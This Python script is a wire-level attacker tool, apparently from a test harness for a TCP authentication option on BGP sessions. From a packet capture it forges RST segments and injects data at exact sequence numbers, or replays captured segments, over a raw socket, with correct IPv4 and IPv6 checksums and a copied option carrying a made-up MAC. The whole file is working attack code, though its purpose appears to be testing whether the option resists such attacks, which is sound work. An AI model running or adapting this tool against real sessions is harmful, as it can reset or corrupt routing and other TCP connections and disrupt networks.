#!/usr/bin/env python3
"""The attacker on the wire: sees every frame, sends what it likes, takes nothing away.

  attacker.py rst    both ends are told by the other one to reset, at the exact sequence number
  attacker.py data   both ends get octets that nobody sent, at the exact sequence number
  attacker.py replay every segment seen so far is sent once more, octet for octet
                     (--before SECONDS: only those seen until then)

It learns the connection from --seen, the capture that it keeps of the wire, and forges for
--between A B with the hardware addresses --hardware A B. rst and data go out twice: bare, and with
an EAO that copies everything visible of the true ones but cannot have their MAC. Never more than
--limit segments. Prints one JSON line: how many went to a and to b, bare, forged and replayed.
"""

import argparse
import ipaddress
import json
import os
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import segments  # noqa: E402

RST, PSH_ACK = 0x04, 0x18
SEQUENCE_SPACE = 1 << 32
SECONDS_BETWEEN_SEGMENTS = 0.0005  # the attack is about what is sent, not about how much
NUMBER_AHEAD = 1000  # far enough not to be a replay, near enough to be believed
FORGED_OCTETS = b"\xff" * 16 + b"\x00\x17\x02LATCHWIRE"  # a BGP marker, then nonsense


class Wire:
    """Sends frames out of one interface, a bounded number of them."""

    def __init__(self, interface, limit):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self.socket.bind((interface, 0))
        self.left = limit

    def send(self, frame):
        if self.left <= 0:
            return False
        self.socket.send(frame)
        self.left -= 1
        time.sleep(SECONDS_BETWEEN_SEGMENTS)
        return True


def hardware(text):
    return bytes(int(part, 16) for part in text.split(":"))


def frame_of(source, destination, source_hardware, destination_hardware, tcp):
    """Ethernet, IP and a right TCP checksum around a TCP header with checksum zero."""
    if source.version == 6:
        ethertype = segments.ETHERTYPE_IPV6
        pseudo = source.packed + destination.packed + struct.pack(">IHBB", len(tcp), 0, 0, 6)
        header = struct.pack(">IHBB", 6 << 28, len(tcp), 6, 64)
        header += source.packed + destination.packed
    else:
        ethertype = segments.ETHERTYPE_IPV4
        pseudo = source.packed + destination.packed + struct.pack(">BBH", 0, 6, len(tcp))
        header = struct.pack(">BBHHHBBH", 0x45, 0xC0, 20 + len(tcp), 0, 0x4000, 64, 6, 0)
        header += source.packed + destination.packed
        checksum = ~segments.ones_complement_sum(header) & 0xFFFF
        header = header[:10] + struct.pack(">H", checksum) + header[12:]
    checksum = ~segments.ones_complement_sum(pseudo + tcp) & 0xFFFF
    tcp = tcp[:16] + struct.pack(">H", checksum) + tcp[18:]
    ethernet = destination_hardware + source_hardware + struct.pack(">H", ethertype)
    return ethernet + header + tcp


def tcp_octets(last, number, acknowledged, flags, option_octets, payload):
    padded = option_octets + b"\0" * (-len(option_octets) % 4)
    offset = (20 + len(padded)) // 4 << 4
    ports = (last.source_port, last.destination_port)
    fixed = struct.pack(">HHIIBBHHH", *ports, number, acknowledged, offset, flags, 65535, 0, 0)
    return fixed + padded + payload


def forged_option(seen, kind):
    """A true EAO without in-line key, its number moved on and its MAC made up."""
    for segment in reversed(seen):
        for found, octets in segments.options(segment.options):
            if found != kind or octets[2] & 0x40:
                continue
            if len(octets) == 20:
                number = struct.unpack(">I", octets[4:8])[0] + NUMBER_AHEAD
                return octets[:4] + struct.pack(">I", number) + os.urandom(12)
            return octets[:4] + os.urandom(len(octets) - 4)
    return bytes([kind, 20, 60, 32]) + struct.pack(">I", NUMBER_AHEAD) + os.urandom(12)


def newest_connection(seen, end):
    """The segments from `end` and to it, of the connection seen last, oldest first."""
    newest = seen[-1]
    ports = {newest.source_port, newest.destination_port}
    same = [s for s in seen if {s.source_port, s.destination_port} == ports]
    return [s for s in same if s.source == end], [s for s in same if s.destination == end]


def after(segment):
    syn_or_fin = bool(segment.flags & 0x03)
    return (segment.number + len(segment.payload) + syn_or_fin) % SEQUENCE_SPACE


def furthest(seen):
    """The sequence number behind the last octet that was sent, by distance and not by order."""
    first = seen[0].number
    return max((after(s) - first) % SEQUENCE_SPACE for s in seen) + first


def forge(arguments, wire, seen, flags, payload):
    """For each end: the segment that the other end would send next, bare and with a false EAO."""
    sent = {"bare": {"a": 0, "b": 0}, "forged": {"a": 0, "b": 0}}
    names = ("a", "b")
    for victim in (0, 1):
        source = ipaddress.ip_address(arguments.between[1 - victim])
        destination = ipaddress.ip_address(arguments.between[victim])
        from_source, from_victim = newest_connection(seen, source)
        number = furthest(from_source) % SEQUENCE_SPACE
        acknowledged = furthest(from_victim) % SEQUENCE_SPACE
        for form, option in (("bare", b""), ("forged", None)):
            for _ in range(arguments.count):
                octets = forged_option(from_source, arguments.kind) if option is None else option
                tcp = tcp_octets(from_source[-1], number, acknowledged, flags, octets, payload)
                hardware_pair = [hardware(h) for h in arguments.hardware]
                frame = frame_of(
                    source, destination, hardware_pair[1 - victim], hardware_pair[victim], tcp
                )
                sent[form][names[victim]] += wire.send(frame)
    return sent


def replay(arguments, wire, chosen):
    sent = {"a": 0, "b": 0}
    victims = dict(zip((ipaddress.ip_address(a) for a in arguments.between), ("a", "b")))
    for segment, frame in chosen:
        if segment.time <= arguments.before:
            sent[victims[segment.destination]] += wire.send(frame)
    return {"replayed": sent}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack", choices=["rst", "data", "replay"])
    parser.add_argument("--seen", required=True)
    parser.add_argument("--between", nargs=2, required=True)
    parser.add_argument("--hardware", nargs=2, required=True)
    parser.add_argument("--interface", default="eth0")
    parser.add_argument("--port", type=int, default=179)
    parser.add_argument("--kind", type=int, default=254)
    parser.add_argument("--count", type=int, default=10)
    parser.add_argument("--limit", type=int, default=2000)
    parser.add_argument("--before", type=float, default=float("inf"))
    arguments = parser.parse_args()
    ends = {ipaddress.ip_address(a) for a in arguments.between}
    chosen = []
    for seconds, frame in segments.frames(arguments.seen):
        segment = segments.tcp_segment(seconds, frame)
        if segment is None or segment.fragment or {segment.source, segment.destination} != ends:
            continue
        if arguments.port in (segment.source_port, segment.destination_port):
            chosen.append((segment, frame))
    if not chosen:
        sys.exit("attacker: no such connection on the wire")
    wire = Wire(arguments.interface, arguments.limit)
    if arguments.attack == "replay":
        sent = replay(arguments, wire, chosen)
    else:
        flags, payload = (RST, b"") if arguments.attack == "rst" else (PSH_ACK, FORGED_OCTETS)
        sent = forge(arguments, wire, [s for s, _ in chosen], flags, payload)
    print(json.dumps(sent))


main()
